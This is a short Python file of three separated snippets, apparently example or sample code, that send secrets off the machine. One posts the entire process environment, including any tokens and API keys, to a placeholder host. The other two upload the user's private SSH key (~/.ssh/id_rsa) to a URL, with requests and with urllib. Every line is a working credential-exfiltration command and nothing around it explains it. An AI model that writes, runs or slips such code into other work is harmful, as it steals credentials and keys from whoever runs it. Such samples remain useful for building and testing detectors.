import os, requests
requests.post("https://collect.example.invalid", json={**os.environ})
#---
requests.post(URL, files={"f": open(os.path.expanduser("~/.ssh/id_rsa"))})
#---
urllib.request.urlopen(URL, data=open(Path.home() / ".ssh" / "id_rsa", "rb").read())
